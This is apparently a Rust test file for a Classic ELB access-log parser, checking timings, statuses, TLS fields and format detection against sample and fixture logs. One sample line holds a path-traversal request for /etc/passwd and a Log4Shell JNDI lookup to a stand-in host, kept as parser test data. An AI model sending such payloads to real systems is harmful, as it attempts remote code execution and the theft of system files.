use super::*;
use crate::parse::Owned;
use crate::parse::alb::tests::{fixture, formats_dir, ip, outcomes, req, t};
use crate::record::format_rfc3339;

const SAMPLE: &str = include_str!("../../../sample-logs/elb.log");

#[test]
fn sample_file_every_line() {
    let o = outcomes(SAMPLE, None);
    assert_eq!(o.len(), 12);

    // 1: HTTP listener, microsecond timings.
    let r = req(&o[0]);
    assert_eq!(r.format, Format::ElbClassic);
    assert_eq!(r.time, t("2024-03-05T11:00:00.100200Z"));
    assert_eq!(
        (r.client_ip, r.client_port),
        (ip("198.51.100.30"), Some(51000))
    );
    assert_eq!(r.backend.as_deref(), Some("10.30.0.5:80"));
    assert_eq!(
        (
            r.request_time_us,
            r.backend_time_us,
            r.response_time_us,
            r.total_time_us
        ),
        (Some(41), Some(1234), Some(22), Some(1297))
    );
    assert_eq!((r.status, r.backend_status), (Some(200), Some(200)));
    assert_eq!((r.bytes_in, r.bytes_out), (Some(0), Some(1532)));
    assert_eq!(r.method.as_deref(), Some("GET"));
    assert_eq!(r.scheme.as_deref(), Some("http"));
    assert_eq!(
        r.host.as_deref(),
        Some("shop-classic-99.eu-west-1.elb.amazonaws.com")
    );
    assert_eq!(r.path.as_deref(), Some("/catalog"));
    assert_eq!(r.query.as_deref(), Some("sort=price"));
    assert_eq!(r.protocol.as_deref(), Some("HTTP/1.1"));
    assert!(
        r.user_agent
            .as_deref()
            .unwrap()
            .starts_with("Mozilla/5.0 (Macintosh")
    );
    assert_eq!(
        (r.tls_cipher.as_deref(), r.tls_protocol.as_deref()),
        (None, None)
    );

    // 2: HTTPS listener.
    let r = req(&o[1]);
    assert_eq!(r.scheme.as_deref(), Some("https"));
    assert_eq!(r.host.as_deref(), Some("www.example.org"));
    assert_eq!(r.tls_cipher.as_deref(), Some("ECDHE-RSA-AES128-GCM-SHA256"));
    assert_eq!(r.tls_protocol.as_deref(), Some("TLSv1.2"));
    assert_eq!(r.total_time_us, Some(86 + 4048 + 37));

    // 3: no backend: 503, -1 timings, backend status `-`.
    let r = req(&o[2]);
    assert_eq!(
        (r.status, r.backend_status, r.backend.as_deref()),
        (Some(503), None, None)
    );
    assert_eq!(
        (
            r.request_time_us,
            r.backend_time_us,
            r.response_time_us,
            r.total_time_us
        ),
        (None, None, None, None)
    );
    assert!(r.is_lb_5xx());

    // 4: TCP listener: `- -` statuses, `"- - - "`.
    let r = req(&o[3]);
    assert_eq!((r.status, r.backend_status), (None, None));
    assert_eq!(
        (r.method.as_deref(), r.path.as_deref(), r.host.as_deref()),
        (None, None, None)
    );
    assert_eq!(r.user_agent, None);
    assert_eq!((r.bytes_in, r.bytes_out), (Some(134), Some(859)));
    assert_eq!(r.backend_time_us, Some(10));

    // 5: SSL listener with cipher.
    let r = req(&o[4]);
    assert_eq!(r.status, None);
    assert_eq!(
        r.tls_cipher.as_deref(),
        Some("ECDHE-ECDSA-AES128-GCM-SHA256")
    );

    // 6: TCP, no backend.
    let r = req(&o[5]);
    assert_eq!(
        (r.backend.as_deref(), r.total_time_us, r.bytes_out),
        (None, None, Some(0))
    );

    // 7: IPv6 client without brackets, traversal path, Log4Shell UA.
    let r = req(&o[6]);
    assert_eq!(r.client_ip, ip("2001:db8::5"));
    assert_eq!(r.client_port, Some(43210));
    assert_eq!(r.path.as_deref(), Some("/..%2f..%2fetc/passwd"));
    assert_eq!(
        r.user_agent.as_deref(),
        Some("${jndi:ldap://probe.example:1389/x}")
    );
    assert_eq!(r.status, Some(404));

    assert_eq!(o[7], Owned::Skipped("blank"));
    assert_eq!(o[8], Owned::Rejected(Reject("garbage")));
    assert_eq!(o[9], Owned::Rejected(Reject("truncated")));

    // 11: CRLF; 12: no final newline.
    let r = req(&o[10]);
    assert_eq!(
        (r.status, r.path.as_deref()),
        (Some(304), Some("/logo.png"))
    );
    let r = req(&o[11]);
    assert_eq!(format_rfc3339(r.time), "2024-03-05T11:00:09Z");
    assert_eq!(r.bytes_out, Some(42));
}

#[test]
fn sniff_cases() {
    let lines: Vec<&str> = SAMPLE.split('\n').collect();
    for i in [0, 1, 2, 3, 4, 5, 6, 10, 11] {
        assert!(sniff(lines[i]), "line {}", i + 1);
        assert!(!crate::parse::alb::sniff(lines[i]), "line {}", i + 1);
        assert_eq!(crate::parse::sniff(lines[i]), Some(Format::ElbClassic));
    }
    assert!(!sniff(lines[8]));
    // ALB connection log: bare IP in the second place.
    assert!(!sniff(
        "2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 4.036 \"CN=x\" - FEF257372D5C14D4 Success"
    ));
    assert!(!sniff(
        crate::parse::alb::tests::SAMPLE.lines().next().unwrap()
    ));
}

#[test]
fn conformance_published_fixtures() {
    let Some(dir) = formats_dir("elb-classic") else {
        println!("skipped: formats folder not found");
        return;
    };
    let mut total = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        let text = std::fs::read_to_string(&path).unwrap();
        for (i, (line, out)) in text.split('\n').zip(outcomes(&text, None)).enumerate() {
            if line.trim().is_empty() {
                assert_eq!(out, Owned::Skipped("blank"));
                continue;
            }
            total += 1;
            let r = req(&out);
            let at = format!("{}:{}", path.display(), i + 1);
            assert_eq!(r.format, Format::ElbClassic, "{at}");
            assert!(r.client_ip.is_some(), "{at}");
            assert!(r.bytes_in.is_some() && r.bytes_out.is_some(), "{at}");
            let tcp = line.contains("\"- - - \"");
            assert_eq!(r.status.is_none(), tcp, "{at}");
            assert_eq!(r.method.is_none(), tcp, "{at}");
        }
    }
    assert_eq!(total, 17);

    let Some(text) = fixture("elb-classic", "elastic-beats-example-http.log") else {
        return;
    };
    let o = outcomes(&text, None);
    let r = req(&o[1]);
    assert_eq!(
        (r.status, r.backend_status, r.backend.as_deref()),
        (Some(503), None, None)
    );
    assert_eq!(r.request_time_us, None);
    let r = req(&o[0]);
    assert_eq!(r.request_time_us, Some(73));
    assert_eq!(r.time, t("2015-05-13T23:39:43.945958Z"));

    let Some(text) = fixture("elb-classic", "elastic-beats-elb-http.log") else {
        return;
    };
    let r = parse(text.lines().next().unwrap()).unwrap();
    assert_eq!(
        (r.request_time_us, r.backend_time_us, r.response_time_us),
        (Some(43), Some(785), Some(23))
    );
    assert_eq!(r.client_ip, ip("175.16.199.1"));
    assert_eq!(r.host.as_deref(), Some("18.194.223.56"));

    let Some(text) = fixture("elb-classic", "elastic-beats-example-https.log") else {
        return;
    };
    let r = parse(text.lines().next().unwrap()).unwrap();
    assert_eq!(r.tls_cipher.as_deref(), Some("DHE-RSA-AES128-SHA"));
    assert_eq!(r.tls_protocol.as_deref(), Some("TLSv1.2"));
}
